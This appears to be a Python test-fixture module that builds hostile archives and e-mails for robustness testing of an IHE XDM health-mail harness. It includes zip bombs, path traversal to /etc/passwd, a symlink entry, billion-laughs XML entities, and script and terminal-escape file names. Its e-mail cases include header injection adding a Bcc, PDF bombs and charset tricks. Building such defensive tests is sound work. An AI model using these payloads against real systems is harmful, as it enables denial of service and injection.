"""Archives and e-mails that a harness must survive: bombs, lies in a directory, nests, broken MIME.

Each one is made of a conforming sample and one attack; ``HOSTILE`` maps a name to what makes it. They are
written to no folder of samples: some are large, and anti-virus software dislikes the others.
"""

from __future__ import annotations

import base64
import re
import struct
import warnings
import zlib
from collections.abc import Callable, Iterable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZIP_STORED, ZipFile, ZipInfo

from harness.builder.cda import build_cda
from harness.builder.demo import document, mail_of
from harness.builder.mail import build_mail
from harness.builder.people import GASTON
from harness.builder.xdm import SUBSET, ArchiveSpec, Entry, archive_files, pack

MIB = 1024 * 1024
_DATE = (2026, 3, 10, 10, 30, 0)
_RECORD, _END = b"PK\x01\x02", b"PK\x05\x06"
_HEAD = b"From: a@demo.mssante.fr\r\nTo: b@demo.mssante.fr\r\nSubject: XDM/1.0/DDM+essai\r\nMIME-Version: 1.0\r\n"
_MIXED = _HEAD + b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"


def _conforming() -> dict[str, bytes]:
    return archive_files(ArchiveSpec(entries=(Entry(document(61, GASTON)),)))


def _with(*more: tuple[str, bytes], method: int = ZIP_DEFLATED) -> bytes:
    """The conforming archive, and entries after it; a repeated name is admitted."""
    held = BytesIO()
    with warnings.catch_warnings(), ZipFile(held, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, content in (*_conforming().items(), *more):
            archive.writestr(ZipInfo(name, _DATE), content, method)
    return held.getvalue()


def _patched(raw: bytes, offset: int, layout: str, value: int) -> bytes:
    """Every record of the directory with one number changed."""
    changed = bytearray(raw)
    start = raw.find(_RECORD)
    while start >= 0:
        struct.pack_into(layout, changed, start + offset, value)
        start = raw.find(_RECORD, start + 4)
    return bytes(changed)


# -- archives ----------------------------------------------------------------------------------------


def _bomb() -> bytes:
    return _with((SUBSET + "DOC0002.XML", bytes(512 * MIB)))


def _overlapping() -> bytes:
    """A thousand records of one same deflated megabyte (the bomb that no ratio of one entry tells)."""
    content = zlib.compress(bytes(MIB), 9)[2:-4]
    name = SUBSET.encode() + b"METADATA.XML"
    local = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, zlib.crc32(bytes(MIB)), len(content), MIB, len(name), 0
    )
    data = local + name + content
    record = struct.pack(
        "<4s6H3L5H2L",
        _RECORD,
        20,
        20,
        0,
        8,
        0,
        0,
        zlib.crc32(bytes(MIB)),
        len(content),
        MIB,
        len(name),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    records = (record + name) * 1_000
    end = struct.pack("<4s4H2LH", _END, 0, 0, 1_000, 1_000, len(records), len(data), 0)
    return data + records + end


def _lying() -> bytes:
    """The directory says ten bytes; the data inflate to two hundred megabytes."""
    return _patched(_with((SUBSET + "DOC0002.XML", bytes(200 * MIB))), 24, "<I", 10)


def _many_entries() -> bytes:
    """A hundred thousand empty entries, written by hand: the standard library takes long."""
    names = [b"IHE_XDM/%06d" % n for n in range(100_000)]
    local = b"".join(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(n), 0) + n for n in names)
    records = b"".join(
        struct.pack("<4s6H3L5H2L", _RECORD, 20, 20, 0, 0, 0, 0, 0, 0, 0, len(n), 0, 0, 0, 0, 0, rank * (30 + len(n)))
        + n
        for rank, n in enumerate(names)
    )
    end = struct.pack("<4s4H2LH", _END, 0, 0, 0xFFFF, 0xFFFF, len(records), len(local), 0)
    return local + records + end


def _encrypted() -> bytes:
    """Every entry flagged as encrypted."""
    flagged = _patched(pack(_conforming()), 8, "<H", 1)
    return flagged.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")


def _truncated_directory() -> bytes:
    raw = pack(_conforming())
    return raw[: raw.rindex(_RECORD) + 20]


def _symlink() -> bytes:
    """METADATA.XML is a symbolic link to a file of the machine."""
    held = BytesIO()
    with ZipFile(held, "w", ZIP_STORED) as archive:
        for name, content in _conforming().items():
            info = ZipInfo(name, _DATE)
            info.create_system = 3
            is_link = name.endswith("METADATA.XML")
            info.external_attr = (0o120777 if is_link else 0o100644) << 16
            archive.writestr(info, b"/etc/passwd" if is_link else content)
    return held.getvalue()


def _nested() -> bytes:
    """Six archives, each inside the other."""
    inner = pack(_conforming())
    for _ in range(6):
        inner = _with(("IHE_XDM.ZIP", inner))
    return inner


def _many_subsets() -> bytes:
    """As many METADATA.XML as entries are admitted."""
    files = _conforming()
    metadata = files[SUBSET + "METADATA.XML"]
    return pack(files | {f"IHE_XDM/S{n:04d}/METADATA.XML": metadata for n in range(1_500)})


def _one_document_for_all() -> bytes:
    """A thousand DocumentEntries that name one document of twenty megabytes."""
    files = _conforming()
    metadata = files[SUBSET + "METADATA.XML"]
    start, end = metadata.index(b"<rim:ExtrinsicObject"), metadata.index(b"</rim:ExtrinsicObject>") + 22
    files[SUBSET + "METADATA.XML"] = metadata[:start] + metadata[start:end] * 1_000 + metadata[end:]
    files[SUBSET + "DOC0001.XML"] += b"<!--" + b"x" * 20 * MIB + b"-->"
    return pack(files)


def _heavy_document() -> bytes:
    """A CDA whose title has sixty megabytes."""
    files = _conforming()
    name = SUBSET + "DOC0001.XML"
    files[name] = files[name].replace(b"<title>", b"<title>" + b"x" * 60 * MIB, 1)
    return pack(files)


def _entities() -> bytes:
    """METADATA.XML with entities that expand to gigabytes."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    doctype = f'<!DOCTYPE x [<!ENTITY e0 "lol">{levels}]>'.encode()
    files = _conforming()
    name = SUBSET + "METADATA.XML"
    files[name] = files[name].replace(b"?>\n", b"?>\n" + doctype, 1).replace(b'value="', b'value="&e11;', 1)
    return pack(files)


def _deep_metadata() -> bytes:
    """METADATA.XML nested two hundred thousand deep."""
    return pack(_conforming() | {SUBSET + "METADATA.XML": b"<a>" * 200_000 + b"</a>" * 200_000})


def _with_metadata(change: Callable[[bytes], bytes]) -> bytes:
    """The conforming archive with another METADATA.XML."""
    files = _conforming()
    return pack(files | {SUBSET + "METADATA.XML": change(files[SUBSET + "METADATA.XML"])})


def _contradicting() -> bytes:
    """The header before each entry tells other sizes than the directory: a stream reader sees another archive."""
    changed = bytearray(pack(_conforming()))
    start = changed.find(b"PK\x03\x04")
    while start >= 0:
        struct.pack_into("<2I", changed, start + 18, 5, 7)
        start = changed.find(b"PK\x03\x04", start + 4)
    return bytes(changed)


def _hostile_names() -> bytes:
    """Names with a line break, a terminal escape, a right-to-left override, a script, ten thousand characters."""
    names = ("A\nB.XML", "\x1b[31mR.XML", "\u202elmx.exe", "<script>alert(1)</script>.XML", "X" * 10_000)
    return _with(*((SUBSET + name, b"x") for name in names))


def _size_of_digits(metadata: bytes) -> bytes:
    return re.sub(rb'(name="size">\s*<rim:ValueList>\s*<rim:Value>)\d+', rb"\g<1>" + b"9" * 200_000, metadata, count=1)


def _classifications(metadata: bytes) -> bytes:
    """A hundred thousand more, all of one id."""
    more = (
        b'<rim:Classification id="urn:uuid:00000000-0000-4000-8000-000000000000" classifiedObject="x" '
        b'classificationScheme="urn:uuid:cccf5598-8b07-4b77-a05e-ae952c785ead" nodeRepresentation="1"/>'
    )
    return metadata.replace(b"</rim:ExtrinsicObject>", more * 100_000 + b"</rim:ExtrinsicObject>", 1)


def _attributes(metadata: bytes) -> bytes:
    """One element with a hundred thousand attributes, that libxml2 compares two by two."""
    many = b" ".join(b'a%d="x"' % n for n in range(100_000))
    return metadata.replace(b"<rim:RegistryObjectList", b"<rim:RegistryObjectList " + many, 1)


def _heavy_index() -> bytes:
    """INDEX.HTM with three million links that are not closed, README.TXT with five million lines."""
    return pack(_conforming() | {"INDEX.HTM": b"<a href=" * 3_000_000, "README.TXT": b"\n" * 5_000_000})


ARCHIVES: dict[str, Callable[[], bytes]] = {
    "zip-bomb": _bomb,
    "zip-overlapping-entries": _overlapping,
    "zip-lying-sizes": _lying,
    "zip-path-escape": lambda: _with(("../../etc/passwd", b"x"), ("/etc/passwd", b"x"), ("C:\\x.xml", b"x")),
    "zip-100000-entries": _many_entries,
    "zip-encrypted": _encrypted,
    "zip-truncated-directory": _truncated_directory,
    "zip-duplicate-names": lambda: _with((SUBSET + "DOC0001.XML", build_cda(document(62, GASTON)))),
    "zip-symlink": _symlink,
    "zip-nested": _nested,
    "zip-lzma": lambda: _with(method=ZIP_LZMA),
    "zip-1500-subsets": _many_subsets,
    "zip-199-entries-of-1-mb": lambda: _with(*((f"IHE_XDM/F{n:05d}.BIN", bytes(MIB)) for n in range(199))),
    "zip-cda-of-60-mb": _heavy_document,
    "zip-1000-entries-one-document": _one_document_for_all,
    "zip-xml-entities": _entities,
    "zip-xml-200000-deep": _deep_metadata,
    "zip-headers-contradict": _contradicting,
    "zip-behind-another": lambda: pack(_conforming()) + pack(_conforming()),
    "zip-names": _hostile_names,
    "zip-size-of-200000-digits": lambda: _with_metadata(_size_of_digits),
    "zip-traits-of-1-mb": lambda: _with_metadata(lambda m: m.replace(b"PID-5|", b"PID-5|" + b"x^" * 500_000, 1)),
    "zip-100000-classifications": lambda: _with_metadata(_classifications),
    "zip-100000-attributes": lambda: _with_metadata(_attributes),
    "zip-index-of-24-mb": _heavy_index,
}


# -- e-mails -----------------------------------------------------------------------------------------


def _part(header: bytes, body: bytes = b"x") -> bytes:
    return b"--x\r\n" + header + b"\r\n\r\n" + body + b"\r\n"


def _attached(content: bytes, name: bytes = b"IHE_XDM.zip") -> bytes:
    head = b'Content-Type: application/zip; name="%s"\r\nContent-Transfer-Encoding: base64' % name
    return _part(head, base64.encodebytes(content))


def _mixed(parts: Iterable[bytes]) -> bytes:
    return _MIXED + b"".join(parts) + b"--x--\r\n"


def _nested_parts() -> bytes:
    levels = range(5_000)
    return _MIXED + b"".join(b"--x\r\nContent-Type: multipart/mixed; boundary=x%d\r\n\r\n" % n for n in levels)


def _forwarded() -> bytes:
    """Two hundred messages, each attached to the other."""
    return b"".join(_HEAD + b"Content-Type: message/rfc822\r\n\r\n" for _ in range(200)) + _HEAD + b"\r\nfin"


def _broken_base64() -> bytes:
    raw = build_mail(mail_of(document(63, GASTON)))
    start = raw.index(b"UEsDB")
    return raw[: start + 900] + b"*%$\xff=" + raw[start + 907 :]


def _injected() -> bytes:
    """A line break hidden in an encoded word of the subject and of a file name, then a header of the attacker's."""
    word = base64.b64encode(b"XDM/1.0/DDM+CR\r\nBcc: pirate@example.test\r\n\r\n<script>")
    raw = build_mail(mail_of(document(64, GASTON)))
    lines = raw.split(b"\r\n")
    subject = next(n for n, line in enumerate(lines) if line.lower().startswith(b"subject:"))
    lines[subject] = b"Subject: =?utf-8?b?" + word + b"?="
    return b"\r\n".join(lines)


def _unknown_charset() -> bytes:
    raw = build_mail(mail_of(document(65, GASTON)))
    return raw.replace(b"charset=UTF-8", b"charset=x-martien-42", 1)


def _reports() -> bytes:
    """A hundred MDN, each the original of the next, and each about itself."""
    report = _HEAD + b"\r\nx"
    for n in range(100):
        mark = b"--r%d\r\n" % n
        told = b"Original-Message-ID: <%d@x.fr>\r\nDisposition: automatic-action/MDN-sent-automatically; processed" % n
        report = (
            _HEAD + b"Message-ID: <%d@x.fr>\r\n" % n
            + b"Content-Type: multipart/report; report-type=disposition-notification; boundary=r%d\r\n\r\n" % n
            + mark + b"Content-Type: text/plain\r\n\r\nok\r\n"
            + mark + b"Content-Type: message/disposition-notification\r\n\r\n" + told + b"\r\n\r\n"
            + mark + b"Content-Type: message/rfc822\r\n\r\n" + report + b"\r\n--r%d--\r\n" % n
        )  # fmt: skip
    return report


def _pdf_bombs() -> bytes:
    """Metadata streams of two hundred megabytes, deflated once or twice."""
    once = zlib.compress(bytes(200 * MIB), 9)
    head = b"%PDF-1.4\n1 0 obj<</Type/Metadata/Subtype/XML/Filter/FlateDecode>>stream\n"
    found = [head + stream + b"\nendstream endobj\n%%EOF" for stream in (once, zlib.compress(once, 9))]
    pdfs = [
        _part(
            b'Content-Type: application/pdf; name="p%d.pdf"\r\nContent-Transfer-Encoding: base64' % n,
            base64.encodebytes(pdf),
        )
        for n, pdf in enumerate(found)
    ]
    return _mixed([_attached(pack(_conforming())), *pdfs])


def _charsets() -> bytes:
    """A subject in charsets that hide characters, or that are no charset of text."""
    words = [b"=?utf-7?q?+AFw-?=", b"=?utf-7?b?KzJBQS0=?=", b"=?hex?q?6162?=", b"=?unicode_escape?q?=5Cud800?=",
             b"=?undefined?q?a?=", b"=?utf-16?b?" + base64.b64encode("\u202e<b>".encode("utf-16")) + b"?="]  # fmt: skip
    subject = b"Subject: " + b" ".join(words)
    return (
        _HEAD.replace(b"Subject: XDM/1.0/DDM+essai", subject) + b"Content-Type: text/plain; charset=utf-7\r\n\r\n+2AA-"
    )


MAILS: dict[str, Callable[[], bytes]] = {
    "mail-10000-parts": lambda: _mixed(_part(b"Content-Type: application/pdf") for _ in range(10_000)),
    "mail-5000-levels": _nested_parts,
    "mail-200-forwards": _forwarded,
    "mail-broken-base64": _broken_base64,
    "mail-header-injection": _injected,
    "mail-unknown-charset": _unknown_charset,
    "mail-million-headers": lambda: _HEAD + b"X-A: b\r\n" * 1_000_000 + b"\r\nx",
    "mail-header-of-20-mb": lambda: _HEAD + b"X-MSS-CODECDA: " + b"a,b;(" * (4 * MIB) + b"\r\n\r\nx",
    "mail-100000-recipients": lambda: _HEAD + b"Cc: " + b",\r\n ".join([b"a@b.fr"] * 100_000) + b"\r\n\r\nx",
    "mail-20-bombs": lambda: _mixed(_attached(_overlapping(), b"IHE_XDM_%d.zip" % n) for n in range(20)),
    "mail-of-42-mb-to-a-patient": lambda: _mixed([_attached(bytes(30 * MIB), b"x.bin")]).replace(
        b"b@demo.mssante.fr", GASTON.mailbox.encode(), 1
    ),
    "mail-200-archives": lambda: _mixed(_attached(pack(_conforming())) for _ in range(200)),
    "mail-100-reports": _reports,
    "mail-pdf-bombs": _pdf_bombs,
    "mail-charsets": _charsets,
    "mail-50000-comments": lambda: (
        b"From: a@demo.mssante.fr "
        + b"(" * 5_000
        + b"x"
        + b")" * 5_000
        + b"\r\nTo: "
        + b"(" * 50_000
        + b"b@demo.mssante.fr\r\nSubject: XDM/1.0/DDM\r\n\r\nx"
    ),
    "mail-boundary-of-1-mb": lambda: (
        _HEAD
        + b'Content-Type: multipart/mixed; boundary="'
        + b"q" * MIB
        + b'"\r\n\r\n--'
        + b"q" * MIB
        + b"\r\n\r\nx\r\n"
    ),
    "mail-truncated": lambda: build_mail(mail_of(document(66, GASTON)))[:9_000],
    "mail-name-continuations": lambda: _mixed(
        [_part(b"Content-Type: application/pdf;" + b";".join(b"\r\n name*%d*=a" % n for n in range(20_000)))]
    ),
}

HOSTILE: dict[str, Callable[[], bytes]] = ARCHIVES | MAILS
